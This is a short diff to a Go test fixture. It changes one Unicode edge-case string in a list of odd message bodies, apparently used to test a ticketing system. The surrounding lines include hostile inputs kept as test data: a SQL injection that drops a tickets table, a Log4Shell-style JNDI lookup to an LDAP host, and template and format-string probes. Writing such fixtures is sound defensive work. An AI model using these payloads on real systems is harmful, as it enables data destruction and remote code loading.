@@ -191,7 +191,7 @@ func oddBodies() []string {
 		"עברית and English and عربي in one line, 100% (ok?)",
 		"zero\u200bwidth\u2060joiners\ufeffinside",
 		"non\u00a0breaking\u202fspaces and a soft\u00adhyphen",
-		"\u2028line separator\u2029paragraph separator.",
+		"Before\u2028line separator\u2029paragraph separator.",
 		"{\"json\": [1, 2, {\"a\": null}]} <not-a-tag> &amp; &lt;b&gt;",
 		"'; drop table tickets; --",
 		"${jndi:ldap://example.com/a} {{7*7}} %s %d %00",
